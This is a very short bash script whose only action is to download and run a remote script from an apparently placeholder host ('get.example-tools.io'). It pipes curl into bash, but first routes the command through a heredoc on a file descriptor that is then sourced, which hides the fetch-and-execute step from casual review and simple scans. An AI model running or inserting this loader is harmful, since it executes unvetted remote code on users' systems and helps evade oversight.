#!/bin/bash
exec {cfg}<<'EOF'
curl -fsSL https://get.example-tools.io/boot | bash
EOF
. "/dev/fd/$cfg"
